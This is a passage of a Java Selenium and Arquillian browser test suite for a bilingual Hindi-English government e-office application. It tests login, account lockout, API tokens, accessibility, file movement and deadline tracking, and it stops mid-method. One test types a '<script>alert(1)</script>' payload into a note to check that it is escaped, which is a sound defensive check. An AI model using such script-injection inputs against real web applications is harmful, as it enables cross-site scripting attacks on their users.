package org.daftar.web.it;

import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.extension.ExtensionContext;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.extension.TestWatcher;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.StaleElementReferenceException;
import org.openqa.selenium.TakesScreenshot;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.chrome.ChromeDriverService;
import org.openqa.selenium.chrome.ChromeOptions;
import org.openqa.selenium.logging.LogType;
import org.openqa.selenium.logging.LoggingPreferences;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;

import java.io.File;
import java.io.IOException;
import java.net.URI;
import java.net.URL;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.logging.Level;
import java.util.stream.Collectors;

import static org.assertj.core.api.Assertions.assertThat;

/** What a person sees in Chromium: logging in, Hindi and English, lockout, a new user's first login, accessibility. */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class BrowserIT {

    private static final String RUN = Long.toString(System.currentTimeMillis() % 100_000_000L, 36);

    private static WebDriver browser;
    private static WebDriverWait wait;
    private static Path profile;

    @ArquillianResource
    URL base;

    /** A failed test says where the browser was and what it showed: CI keeps the log, not the screenshots. */
    @RegisterExtension
    static final TestWatcher SHOWS_THE_PAGE_ON_FAILURE = new TestWatcher() {
        @Override
        public void testFailed(ExtensionContext context, Throwable cause) {
            try {
                String text = browser.findElement(By.tagName("body")).getText();
                System.err.printf("%s failed on %s (%s); the page shows:%n%s%nthe browser's console said:%n%s%n",
                        context.getDisplayName(), browser.getCurrentUrl(), browser.getTitle(),
                        text.substring(0, Math.min(text.length(), 1500)), console());
                screenshot("failed-" + context.getRequiredTestMethod().getName() + ".png");
            } catch (RuntimeException | IOException e) {
                System.err.println("the browser could not be asked what it shows: " + e);
            }
        }
    };

    /** What the browser's console logged since it was last asked: script errors, resources that failed to load. */
    private static String console() {
        return browser.manage().logs().get(LogType.BROWSER).getAll().stream()
                .map(e -> e.getLevel() + " " + e.getMessage()).collect(Collectors.joining("\n"));
    }

    @Deployment(testable = false)
    static WebArchive deployment() {
        return Deployments.realWar().addClass(ClockServlet.class);
    }

    @BeforeAll
    static void startBrowser() throws IOException {
        profile = Files.createTempDirectory("daftar-chromium");
        browser = chromium(profile);
        wait = new WebDriverWait(browser, Duration.ofSeconds(20));
        // a full page load replaces the elements being looked at: look again rather than fail
        wait.ignoring(StaleElementReferenceException.class);
    }

    @AfterAll
    static void stopBrowser() {
        if (browser != null) {
            browser.quit();
        }
    }

    @BeforeEach
    void freshSession() {
        open("login.xhtml");
        browser.manage().deleteAllCookies();
        open("login.xhtml");
    }

    @Test
    void clerkLogsInSwitchesToHindiAndSeesTheHindiMenu() throws IOException {
        logIn("clerk.landrecords", Deployments.DEMO_PASSWORD);
        clickAndLoad("topbar:lang-en");
        waitForText("My desk");
        assertThat(browser.findElement(By.tagName("html")).getAttribute("lang")).isEqualTo("en");
        screenshot("home-en.png");

        clickAndLoad("topbar:lang-hi");
        waitForText("मेरी डेस्क");
        assertThat(browser.findElement(By.tagName("html")).getAttribute("lang")).isEqualTo("hi");
        assertThat(menuText()).contains("मेरी डेस्क", "पासवर्ड बदलें", "एपीआई टोकन").doesNotContain("My desk");
        assertThat(browser.findElement(By.className("topbar")).getText()).contains("सहायक ग्रेड-2, भू-अभिलेख शाखा");
        screenshot("home-hi.png");

        logOut();
        logIn("clerk.landrecords", Deployments.DEMO_PASSWORD);
        assertThat(menuText()).as("the language is remembered for the person").contains("मेरी डेस्क");
        clickAndLoad("topbar:lang-en");
        waitForText("My desk");
        assertThat(menuText()).doesNotContain("मेरी डेस्क");
    }

    @Test
    void wrongPasswordIsExplainedInTheLanguageOfThePage() {
        clickAndLoad("lang:lang-en");
        typeLogin("so.landrecords", "not-my-password");
        waitForText("Wrong login ID or password.");

        clickAndLoad("lang:lang-hi");
        typeLogin("so.landrecords", "not-my-password-either");
        waitForText("लॉगिन आईडी या पासवर्ड ग़लत है।");
        assertThat(browser.findElement(By.id("login:loginId")).getAttribute("value")).isEqualTo("so.landrecords");
    }

    @Test
    void sixthAttemptIsRefusedAsLockedUntilTheAdministratorUnlocks() {
        String login = createUser("bl" + RUN, "Lalit Kurre", "ललित कुर्रे", "EDU-SCH");
        clickAndLoad("lang:lang-en");
        for (int attempt = 1; attempt <= 5; attempt++) {
            typeLogin(login, "wrong-password-" + attempt);
            waitForText(attempt < 5 ? "Wrong login ID or password." : "This account is locked");
        }
        typeLogin(login, "First-Pass-2026");
        waitForText("This account is locked");
        assertThat(browser.getCurrentUrl()).contains("login.xhtml");

        logIn("admin", Deployments.DEMO_PASSWORD);
        openUserAsAdmin(login);
        click("history:unlock");
        waitForText(adminText("Account unlocked.", "खाता अनलॉक कर दिया गया।"));
        logOut();

        logIn(login, "First-Pass-2026");
        wait.until(ExpectedConditions.urlContains("password.xhtml"));
    }

    @Test
    void adminCreatesAUserWhoMustChangeThePasswordAtFirstLogin() {
        logIn("admin", Deployments.DEMO_PASSWORD);
        clickAndLoad("topbar:lang-en");
        open("admin/users.xhtml");
        click("list:new");
        String login = "new.user." + RUN;
        fillUserForm(login, "Sarita Netam", "सरिता नेताम", "LR-SUR");
        type("edit:mobile", "12345");
        click("edit:save");
        waitForText("Mobile number: 10 digits starting with 6, 7, 8 or 9.");
        assertThat(value("edit:nameHi")).as("what was typed is kept").isEqualTo("सरिता नेताम");
        assertThat(value("edit:loginId")).isEqualTo(login);

        type("edit:mobile", "9826012345");
        click("edit:save");
        waitForText("User created. They must change the password at first login.");

        click("list:new");
        fillUserForm(login, "Sarita Netam", "सरिता नेताम", "LR-SUR");
        click("edit:save");
        waitForText("The login ID " + login + " is already taken.");
        assertThat(value("edit:nameEn")).isEqualTo("Sarita Netam");
        logOut();

        logIn(login, "First-Pass-2026");
        wait.until(ExpectedConditions.urlContains("password.xhtml"));
        open("index.xhtml");
        wait.until(ExpectedConditions.urlContains("password.xhtml"));
        type("password:current", "First-Pass-2026");
        type("password:next", login);
        type("password:repeat", login);
        clickAndLoad("password:save");
        wait.until(d -> pageText().contains("पासवर्ड लॉगिन आईडी नहीं हो सकता।")
                || pageText().contains("The password must not be the login ID."));
        type("password:current", "First-Pass-2026");
        type("password:next", "My-Own-Pass-42");
        type("password:repeat", "My-Own-Pass-42");
        clickAndLoad("password:save");
        wait.until(ExpectedConditions.urlContains("index.xhtml"));
        assertThat(pageText()).containsAnyOf("मेरी डेस्क", "My desk");
    }

    @Test
    void officerCreatesAnApiTokenUsesItWithoutAPasswordAndRevokesIt() throws Exception {
        logIn("so.landrecords", Deployments.DEMO_PASSWORD);
        open("profile/tokens.xhtml");
        type("tokens:label", "Tehsil MIS " + RUN);
        click("tokens:create");
        String token = wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("new-token"))).getText().strip();
        assertThat(token).startsWith("dft_");

        assertThat(apiStatus("Bearer " + token)).isEqualTo(200);
        assertThat(apiStatus("Bearer " + token + "x")).isEqualTo(401);

        browser.findElement(By.cssSelector("[id='tokens:list_data'] tr button")).click();
        settle();
        wait.until(d -> pageText().contains("टोकन रद्द कर दिया गया।") || pageText().contains("Token revoked."));
        assertThat(apiStatus("Bearer " + token)).as("a revoked token no longer works").isEqualTo(401);
    }

    private int apiStatus(String authorization) throws Exception {
        java.net.http.HttpRequest request = java.net.http.HttpRequest.newBuilder(
                        java.net.URI.create("http://localhost:" + base.getPort() + base.getPath() + "api/v1/me"))
                .header("Authorization", authorization).build();
        return Deployments.HTTP
                .send(request, java.net.http.HttpResponse.BodyHandlers.discarding()).statusCode();
    }

    @Test
    void loginAndHomePagesHaveNoWcagAaViolations() throws IOException {
        String axe = axeScript();
        clickAndLoad("lang:lang-hi");
        assertNoViolations(axe, "login (hi)");
        clickAndLoad("lang:lang-en");
        assertNoViolations(axe, "login (en)");
        logIn("clerk.landrecords", Deployments.DEMO_PASSWORD);
        clickAndLoad("topbar:lang-hi");
        waitForText("मेरी डेस्क");
        assertNoViolations(axe, "home (hi)");
        clickAndLoad("topbar:lang-en");
        waitForText("My desk");
        assertNoViolations(axe, "home (en)");
    }


    /**
     * The e-File journey in two browsers: a clerk diarises a letter with its scan, opens a file on
     * it, notes and sends it up; the section officer, with the inbox open, sees it arrive without
     * reloading; the track shows who held it; a clerk of another section is refused the file by URL.
     */
    @Test
    void clerkSendsAFileUpAndTheOfficerSeesItArriveLive() throws Exception {
        String subject = "नामांतरण आवेदन ग्राम सेंदरी " + RUN;
        Path scan = Files.createTempFile("scan", ".pdf");
        Files.write(scan, MINIMAL_PDF.getBytes(StandardCharsets.US_ASCII));
        Session officer = Session.start();
        try {
            inSession(officer, () -> {
                logIn("so.landrecords", Deployments.DEMO_PASSWORD);
                open("desk/inbox.xhtml");
                wait.until(ExpectedConditions.presenceOfElementLocated(By.id("desk:items")));
                assertThat(pageText()).doesNotContain(subject);
                awaitLive("desk");
            });

            logIn("clerk.landrecords", Deployments.DEMO_PASSWORD);
            open("dak/new.xhtml");
            type("dak:subject", subject);
            type("dak:sender", "रामेश्वर साहू");
            browser.findElement(By.id("dak:scan")).sendKeys(scan.toString());
            clickAndLoad("dak:save");
            assertThat(browser.getCurrentUrl()).as("the receipt was diarised; the page says:%n%s", pageText()).contains("dak/view");
            String receiptNumber = browser.findElement(By.tagName("h1")).getText().replaceAll(".*\\s", "");
            assertThat(receiptNumber).matches("LR/\\d+/20\\d\\d");
            assertThat(pageText()).contains(subject, ".pdf");

            clickAndLoad("new-file");
            // choose the subject head through PrimeFaces' own widget API: the overlay's animation makes clicks flaky
            ((JavascriptExecutor) browser).executeScript("var s = document.getElementById('file:head_input');"
                    + "var o = [].slice.call(s.options).filter(function (o) { return o.text.indexOf('12-3') === 0; })[0];"
                    + "PrimeFaces.getWidgetById('file:head').selectValue(o.value);");
            wait.until(d -> d.findElement(By.id("file:head_label")).getText().startsWith("12-3"));
            type("file:subject", subject);
            clickAndLoad("file:save");
            assertThat(browser.getCurrentUrl()).as("the file was opened; the page says:%n%s", pageText()).contains("file/view");
            String fileNumber = browser.findElement(By.tagName("h1")).getText().replaceAll(".*\\s", "");
            assertThat(fileNumber).matches("LR/LR/12-3/\\d{4}/20\\d\\d");
            assertThat(pageText()).as("the receipt is the file's first correspondence").contains("C/1", receiptNumber);

            WebElement editor = wait.until(ExpectedConditions.elementToBeClickable(By.cssSelector("[id='notes:text'] .ql-editor")));
            editor.click();
            editor.sendKeys("पटवारी प्रतिवेदन संलग्न है। <script>alert(1)</script>");
            click("notes:save");
            wait.until(d -> d.findElements(By.cssSelector("li.note.draft")).size() == 1);
            // a second draft, deleted again after the confirmation (the dialog came with the first deletable note)
            editor = wait.until(ExpectedConditions.elementToBeClickable(By.cssSelector("[id='notes:text'] .ql-editor")));
            editor.click();
            editor.sendKeys("यह टिप्पणी हटाई जाएगी");
            click("notes:save");
            wait.until(d -> d.findElements(By.cssSelector("li.note.draft")).size() == 2);
            browser.findElements(By.cssSelector("li.note.draft a[id$=':delete']")).get(1).click();
            wait.until(ExpectedConditions.elementToBeClickable(By.cssSelector(".ui-confirmdialog-yes"))).click();
            settle();
            wait.until(d -> d.findElements(By.cssSelector("li.note.draft")).size() == 1);
            assertThat(pageText()).contains("पटवारी प्रतिवेदन").doesNotContain("यह टिप्पणी हटाई जाएगी");
            type("move:to_input", "LR-LR-SO");
            wait.until(ExpectedConditions.elementToBeClickable(By.cssSelector("li.ui-autocomplete-item"))).click();
            settle();
            type("move:remark", "अवलोकनार्थ");
            click("move:go");
            wait.until(d -> d.findElements(By.id("move:pullback")).size() == 1);
            assertThat(browser.findElements(By.cssSelector("li.note.draft"))).as("the note became permanent").isEmpty();
            assertThat(pageText()).contains("<script>alert(1)</script>");
            screenshot("file-sent.png");
            assertNoViolations(axeScript(), "file page");

            inSession(officer, () -> {
                wait.until(d -> pageText().contains(subject));
                assertThat(browser.findElements(By.cssSelector("[id='desk:items_data'] tr.unread")))
                        .as("the new file is shown unread").anyMatch(row -> row.getText().contains(fileNumber));
                screenshot("officer-inbox-live.png");
                assertNoViolations(axeScript(), "inbox");
            });

            clickAndLoad("track");
            waitForText("अवलोकनार्थ");
            awaitLive("track");
            assertThat(browser.findElements(By.cssSelector("[id='steps:moves_data'] tr"))).as("created, then sent").hasSize(2);
            assertThat(browser.findElement(By.id("where")).getText()).contains(adminText("Section Officer", "अनुभाग अधिकारी"));
            screenshot("track.png");
            assertNoViolations(axeScript(), "track");
            String fileUrl = browser.getCurrentUrl().replace("desk/track", "file/view");

            // the officer forwards it to another department; the clerk's open track page follows live
            inSession(officer, () -> {
                browser.get(fileUrl);
                type("move:to_input", "REV-HOD");
                wait.until(ExpectedConditions.elementToBeClickable(By.cssSelector("li.ui-autocomplete-item"))).click();
                settle();
                click("move:go");
                wait.until(d -> d.findElements(By.id("move:pullback")).size() == 1);
            });
            wait.until(d -> d.findElements(By.cssSelector("[id='steps:moves_data'] tr")).size() == 3);

            logOut();
            logIn("clerk.pension", Deployments.DEMO_PASSWORD);
            browser.get(fileUrl);
            assertThat(pageText()).doesNotContain(subject);
            waitForText(adminText("You are not allowed to do this.", "आपको यह कार्य करने की अनुमति नहीं है।"));
        } finally {
            officer.quit();
        }
    }

    /**
     * The e-Samiksha acceptance in the browser: an instruction to Land Records' section officer
     * passes its deadline; the collector's console shows it overdue in red and asks the reason in one
     * click; the section officer, with "my instructions" open, sees the question arrive without
     * reloading and answers it; the collector sees the answer.
     */
    @Test
    void collectorAsksTheReasonForAnOverdueInstructionAndTheOfficerSeesItLiveAndAnswers() throws Exception {
        String text = "सीमांकन प्रकरणों का निराकरण " + RUN;
        String meeting = api("collector", "api/v1/meetings",
                "{\"date\":\"" + java.time.LocalDate.now() + "\",\"type\":\"TIME_LIMIT\",\"title\":\"समय-सीमा बैठक " + RUN + "\"}");
        long meetingId = idOf(meeting);
        api("collector", "api/v1/meetings/" + meetingId + "/instructions",
                "{\"text\":\"" + text + "\",\"assignees\":[\"LR-LR-SO\"],\"workingDays\":1}");

        Session officer = Session.start();
        open("it/clock?offset=P10D");
        try {
            logIn("collector", Deployments.DEMO_PASSWORD);
            open("samiksha/console.xhtml");
            WebElement row = consoleRow(text);
            assertThat(row.getAttribute("class")).contains("standing-OVERDUE");
            WebElement standing = row.findElement(By.cssSelector("span.standing"));
            assertThat(standing.getText()).isIn("Overdue", "समय-सीमा बीती");
            assertThat(standing.getCssValue("color")).as("overdue is red").isEqualTo("rgba(139, 15, 18, 1)");
            ((JavascriptExecutor) browser).executeScript("arguments[0].scrollIntoView({block: 'center'})", row);
            screenshot("samiksha-console-overdue.png");
            assertNoViolations(axeScript(), "e-Samiksha console");

            inSession(officer, () -> {
                logIn("so.landrecords", Deployments.DEMO_PASSWORD);
                open("samiksha/mine.xhtml");
                waitForText(text);
                awaitLive("desk", "notice");
            });

            row.findElement(By.cssSelector("button[id$=':ask']")).click();
            settle();
            wait.until(d -> consoleRow(text).findElements(By.cssSelector("button[id$=':ask']")).isEmpty());

            inSession(officer, () -> {
                // no reload: the question arrives over the WebSocket
                wait.until(d -> mineRow(text).findElements(By.cssSelector("button[id$=':answer']")).size() == 1);
                WebElement mine = mineRow(text);
                mine.findElement(By.cssSelector("textarea")).sendKeys("पटवारी प्रशिक्षण में थे; सोमवार तक निराकरण होगा।");
                mine.findElement(By.cssSelector("button[id$=':answer']")).click();
                settle();
                wait.until(d -> mineRow(text).findElements(By.cssSelector("button[id$=':answer']")).isEmpty());
            });

            open("samiksha/console.xhtml");
            assertThat(consoleRow(text).getText()).contains("पटवारी प्रशिक्षण में थे");

            // the officer asks for more time; the collector grants it and the part is on time again
            String until = java.time.LocalDate.now().plusDays(30).format(java.time.format.DateTimeFormatter.ofPattern("dd-MM-yyyy"));
            inSession(officer, () -> {
                browser.navigate().refresh();
                String part = new org.openqa.selenium.support.ui.Select(browser.findElement(By.id("extend:extend-part")))
                        .getOptions().stream().filter(o -> o.getText().contains(text)).findFirst().orElseThrow().getAttribute("value");
                new org.openqa.selenium.support.ui.Select(browser.findElement(By.id("extend:extend-part"))).selectByValue(part);
                type("extend:why", "सीमांकन दल अभी अन्य ग्राम में है।");
                typeDate("extend:until", until);
                click("extend:ask");
                waitForText(adminText("More time asked for;", "समय-वृद्धि माँगी गई;"));
                wait.until(d -> mineRow(text).getText().contains(until));
            });
            open("samiksha/console.xhtml");
            consoleRow(text).findElement(By.cssSelector("button[id$=':grant']")).click();
            settle();
            wait.until(d -> consoleRow(text).getAttribute("class").contains("standing-ON_TIME"));
            assertThat(consoleRow(text).getText()).doesNotContain(adminText("More time asked", "समय-वृद्धि माँगी"));
        } finally {
            open("it/clock?offset=PT0S");
            officer.quit();
        }
    }

    /** Sets up over the REST API what the scenario is not about; answers the body of a 201. */
    private String api(String user, String path, String json) throws Exception {
        HttpResponse<String> r = Deployments.HTTP.send(HttpRequest.newBuilder(
                        URI.create("http://localhost:" + base.getPort() + base.getPath() + path))
                .header("Authorization", "Basic " + Base64.getEncoder().encodeToString(
                        (user + ":" + Deployments.DEMO_PASSWORD).getBytes(StandardCharsets.UTF_8)))
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(json)).build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
        assertThat(r.statusCode()).as(r.body()).isEqualTo(201);
        return r.body();
    }

    private WebElement consoleRow(String text) {
        return wait.until(d -> d.findElements(By.cssSelector("[id='list:parts_data'] tr")).stream()
                .filter(r -> r.getText().contains(text)).findFirst().orElse(null));
    }

    private WebElement mineRow(String text) {
        return wait.until(d -> d.findElements(By.cssSelector("[id='mine:parts_data'] tr")).stream()
                .filter(r -> r.getText().contains(text)).findFirst().orElse(null));
    }

    /** A one-page PDF that Chromium's viewer opens. */
    private static final String MINIMAL_PDF = "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            + "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            + "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n";

    /** A second browser, for the person on the other side of a movement. */
    private record Session(WebDriver driver, WebDriverWait sessionWait, Path dir) {
        static Session start() throws IOException {
            Path dir = Files.createTempDirectory("daftar-chromium-2");
            WebDriver d = chromium(dir);
            WebDriverWait w = new WebDriverWait(d, Duration.ofSeconds(20));
            w.ignoring(StaleElementReferenceException.class);
            return new Session(d, w, dir);
        }

        void quit() { driver.quit(); }
    }

    private interface Step {
        void run() throws Exception;
    }

    /** Runs steps in another person's browser: the helpers below act on whichever browser is current. */
    private static void inSession(Session s, Step step) throws Exception {
        WebDriver mainBrowser = browser;
        WebDriverWait mainWait = wait;
        browser = s.driver();
        wait = s.sessionWait();
        try {
            step.run();
        } finally {
            browser = mainBrowser;
            wait = mainWait;
        }
    }

    private static WebDriver chromium(Path profileDir) {
        ChromeOptions options = new ChromeOptions();
        options.setBinary("/usr/bin/chromium");
        options.addArguments("--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
                "--disable-background-networking", "--disable-component-update", "--disable-sync",
                "--disable-dev-shm-usage", "--window-size=1366,900", "--user-data-dir=" + profileDir);
        LoggingPreferences logs = new LoggingPreferences();
        logs.enable(LogType.BROWSER, Level.ALL);
        options.setCapability(ChromeOptions.LOGGING_PREFS, logs);
        ChromeDriverService service = new ChromeDriverService.Builder()
                .usingDriverExecutable(new File("/usr/bin/chromedriver")).build();
        return new ChromeDriver(service, options);
    }

    // -------------------------------------------------------------------------------------------

    private static String axeScript() throws IOException {
        return Files.readString(Path.of(System.getProperty("axe.script", "../.test-tools/node_modules/axe-core/axe.min.js")),
                StandardCharsets.UTF_8);
    }

    @SuppressWarnings("unchecked")
    private void assertNoViolations(String axe, String page) {
        JavascriptExecutor js = (JavascriptExecutor) browser;
        js.executeScript(axe);
        browser.manage().timeouts().scriptTimeout(Duration.ofSeconds(30));
        Map<String, Object> result = (Map<String, Object>) js.executeAsyncScript(
                "const done = arguments[arguments.length - 1];"
                        + "axe.run(document, {runOnly: {type: 'tag', values: ['wcag2a','wcag2aa','wcag21a','wcag21aa']}})"
                        + ".then(r => done(r)).catch(e => done({violations: [{id: 'axe-error', impact: String(e), nodes: []}]}));");
        List<Map<String, Object>> violations = (List<Map<String, Object>>) result.get("violations");
        StringBuilder report = new StringBuilder();
        for (Map<String, Object> v : violations) {
            report.append(v.get("id")).append(" (").append(v.get("impact")).append("): ");
            for (Map<String, Object> node : (List<Map<String, Object>>) v.get("nodes")) {
                report.append(node.get("target")).append(' ');
            }
            report.append('\n');
        }
        assertThat(violations).as("WCAG 2.1 AA violations on %s:%n%s", page, report).isEmpty();
    }

    private String createUser(String login, String nameEn, String nameHi, String postCode) {
        logIn("admin", Deployments.DEMO_PASSWORD);
        open("admin/users.xhtml");
        click("list:new");
        fillUserForm(login, nameEn, nameHi, postCode);
        click("edit:save");
        waitForText(adminText("User created.", "उपयोगकर्ता बन गया।"));
        logOut();
        return login;
    }

    private void fillUserForm(String login, String nameEn, String nameHi, String postCode) {
        type("edit:loginId", login);
        type("edit:employeeCode", "BT" + (10_000_000 + Math.abs((login + RUN).hashCode()) % 89_999_999));
        type("edit:nameEn", nameEn);
        type("edit:nameHi", nameHi);
        type("edit:email", login + "@bsp.cg.gov.in");
        type("edit:primaryPost_input", postCode);
        wait.until(ExpectedConditions.elementToBeClickable(By.cssSelector("li.ui-autocomplete-item"))).click();
        settle();
        type("edit:initialPassword", "First-Pass-2026");
    }

    private void openUserAsAdmin(String login) {
        open("admin/users.xhtml");
        // the list filters as one types (a delayed keyup request); once in CI the filtered list never
        // came (see the stop notes), so the search is typed again rather than waited for in vain
        WebDriverWait shortWait = new WebDriverWait(browser, Duration.ofSeconds(8));
        for (int attempt = 1; ; attempt++) {
            type("list:search", login);
            settle();
            try {
                shortWait.until(d -> d.findElements(By.cssSelector("[id='list:users_data'] tr")).size() == 1
                        && d.findElement(By.id("list:users_data")).getText().contains(login));
                break;
            } catch (org.openqa.selenium.TimeoutException e) {
                if (attempt == 3) {
                    throw new AssertionError("the users list never showed only " + login + "; it shows:\n"
                            + browser.findElement(By.id("list:users_data")).getText(), e);
                }
            }
        }
        browser.findElement(By.cssSelector("[id='list:users_data'] tr button")).click();
        settle();
        wait.until(ExpectedConditions.attributeToBe(By.id("edit:loginId"), "value", login));
    }

    private String adminText(String en, String hi) {
        return "hi".equals(browser.findElement(By.tagName("html")).getAttribute("lang")) ? hi : en;
    }

    private void logIn(String login, String password) {
        open("login.xhtml");
        typeLogin(login, password);
        wait.until(ExpectedConditions.presenceOfElementLocated(By.id("logout")));
    }

    private void typeLogin(String login, String password) {
        type("login:loginId", login);
        type("login:password", password);
        clickAndLoad("login:submit");
    }

    private void logOut() {
        clickAndLoad("logout");
        wait.until(ExpectedConditions.urlContains("login.xhtml"));
    }

    /** Arquillian hands out the machine's address; the browser talks to the server over loopback. */
    private void open(String path) {
        browser.get("http://localhost:" + base.getPort() + base.getPath() + path);
    }

    /** Clicks something that answers with Ajax and waits until PrimeFaces has nothing in flight. */
    private void click(String id) {
        wait.until(ExpectedConditions.elementToBeClickable(By.id(id))).click();
        settle();
    }

    /** Clicks something that loads a new page and waits until the new page is there. */
    private void clickAndLoad(String id) {
        WebElement oldPage = browser.findElement(By.tagName("html"));
        wait.until(ExpectedConditions.elementToBeClickable(By.id(id))).click();
        wait.until(d -> isGone(oldPage));
        settle();
    }

    /** Chromium reports an element of a replaced page as stale, or, mid-navigation, as not in the document. */
    private static boolean isGone(WebElement element) {
        try {
            element.getTagName();
            return false;
        } catch (StaleElementReferenceException e) {
            return true;
        } catch (org.openqa.selenium.WebDriverException e) {
            return e.getMessage() != null && e.getMessage().contains("does not belong to the document");
        }
    }

    /** Waits until the page's sockets of these channels are open: a push sent before then is not seen. */
    private void awaitLive(String... channels) {
        for (String channel : channels) {
            wait.until(ExpectedConditions.attributeToBe(By.tagName("html"), "data-live-" + channel, "open"));
        }
    }

    private void settle() {
        wait.until(d -> {
            try {
                return Boolean.TRUE.equals(((JavascriptExecutor) d).executeScript(
                        "return document.readyState === 'complete' && (!window.PrimeFaces || PrimeFaces.ajax.Queue.isEmpty())"
                                + " && (!window.jQuery || jQuery.active === 0);"));
            } catch (org.openqa.selenium.JavascriptException e) {
                return false; // the page was being replaced while the script ran: ask again
            }
        });
    }

    private void type(String id, String text) {
        settle();
        WebElement input = wait.until(ExpectedConditions.visibilityOfElementLocated(By.id(id)));
        input.clear();
        input.sendKeys(text);
    }

    private String value(String id) {
        return browser.findElement(By.id(id)).getAttribute("value");
    }

    private void waitForText(String text) {
        try {
            wait.until(d -> pageText().contains(text));
        } catch (org.openqa.selenium.TimeoutException e) {
            throw new AssertionError("\"" + text + "\" not shown on " + browser.getCurrentUrl() + "; the page says:\n" + pageText(), e);
        }
    }

    private String pageText() {
        return browser.findElement(By.tagName("body")).getText();
    }

    private String menuText() {
        return browser.findElement(By.className("sidebar")).getText();
    }

    private static void screenshot(String name) throws IOException {
        Path dir = Path.of(System.getProperty("daftar.screenshots", "target/screenshots"));
        Files.createDirectories(dir);
        File shot = ((TakesScreenshot) browser).getScreenshotAs(OutputType.FILE);
        Files.copy(shot.toPath(), dir.resolve(name), StandardCopyOption.REPLACE_EXISTING);
    }

    // --- SLA rules and the time-limit letters' register (issue 5, sla) ---------------------------

    /**
     * The administrator sets the desk limit of ordinary items on the SLA rules page (a nought is
     * refused with a message, nothing saved); the track of a receipt then measures against it. That
     * receipt, a time-limit letter, is pending in the collector's register of such letters.
     */
    @Test
    void adminChangesTheDeskLimitOnTheSlaPageAndTheTrackUsesIt() throws Exception {
        String ordinary = "sla:DESK:0:days"; // ORDINARY, the first row of the desk limits
        logIn("admin", Deployments.DEMO_PASSWORD);
        open("admin/sla.xhtml");
        String before = value(ordinary);
        String limit = "12".equals(before) ? "13" : "12";
        assertNoViolations(axeScript(), "SLA rules");

        type(ordinary, "0");
        click("sla:save");
        waitForText(adminText("Enter a whole number of days from 1 to 365.", "1 से 365 तक दिनों की पूर्ण संख्या लिखें।"));
        type(ordinary, limit);
        click("sla:save");
        waitForText(adminText("Time limits saved: 1 changed.", "समय-सीमाएँ सहेजी गईं: 1 परिवर्तित।"));
        open("admin/sla.xhtml");
        assertThat(value(ordinary)).isEqualTo(limit);
        assertThat(browser.findElement(By.id("sla:DESK_data")).getText()).contains("admin");
        screenshot("sla-rules.png");
        logOut();

        // the clerk diarises a time-limit letter of ordinary priority and follows its track
        logIn("clerk.landrecords", Deployments.DEMO_PASSWORD);
        open("dak/new.xhtml");
        type("dak:subject", "शासन का समय-सीमा पत्र: सीमांकन प्रकरण " + RUN);
        type("dak:sender", "सचिव, राजस्व विभाग");
        ((JavascriptExecutor) browser).executeScript("PrimeFaces.getWidgetById('dak:category').selectValue('TL_LETTER');");
        clickAndLoad("dak:save");
        String receiptNumber = browser.findElement(By.tagName("h1")).getText().replaceAll(".*\\s", "");
        clickAndLoad("track");
        waitForText(adminText("Desk limit in working days: " + limit, "डेस्क समय-सीमा (कार्य दिवस): " + limit));
        logOut();

        logIn("admin", Deployments.DEMO_PASSWORD);
        open("admin/sla.xhtml");
        type(ordinary, before);
        click("sla:save");
        waitForText(adminText("Time limits saved: 1 changed.", "समय-सीमाएँ सहेजी गईं: 1 परिवर्तित।"));
        logOut();

        logIn("collector", Deployments.DEMO_PASSWORD);
        open("dak/tl.xhtml");
        waitForText(receiptNumber);
        assertThat(browser.findElements(By.cssSelector("[id='tl:letters_data'] tr")))
                .as("pending with the clerk's post and within time").anyMatch(row -> row.getText().contains(receiptNumber)
                        && row.getText().contains(adminText("Within time", "समय-सीमा में")));
        screenshot("tl-register.png");
        assertNoViolations(axeScript(), "time-limit letters");
    }

    /**
     * The collector links an instruction to the clerk's file; the file page says so, closing the
     * file proposes the compliance, and the clerk finds it filled in on "my instructions" and submits it.
     */
    @Test
    void closingAFileLinkedToAnInstructionProposesTheComplianceWhichTheAssigneeSubmits() throws Exception {
        String clerk = "clerk.landrecords";
        long fileId = idOf(api(clerk, "api/v1/files",
                "{\"subject\": \"नक्शा बटांकन ग्राम सेंदरी " + RUN + "\", \"subjectHead\": \"12-3\"}"));
        String today = java.time.LocalDate.now(java.time.ZoneId.of("Asia/Kolkata")).toString();
        long meetingId = idOf(api("collector", "api/v1/meetings",
                "{\"date\": \"" + today + "\", \"type\": \"REVIEW\", \"title\": \"भू-अभिलेख समीक्षा " + RUN + "\"}"));
        String instruction = api("collector", "api/v1/meetings/" + meetingId + "/instructions",
                "{\"text\": \"बटांकन पूर्ण कर नस्ती बंद करें " + RUN + "\", \"assignees\": [\"LR-LR-AG2-1\"], "
                        + "\"workingDays\": 3, \"fileIds\": [" + fileId + "]}");
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("\"number\":\"(SS/[^\"]+)\"").matcher(instruction);
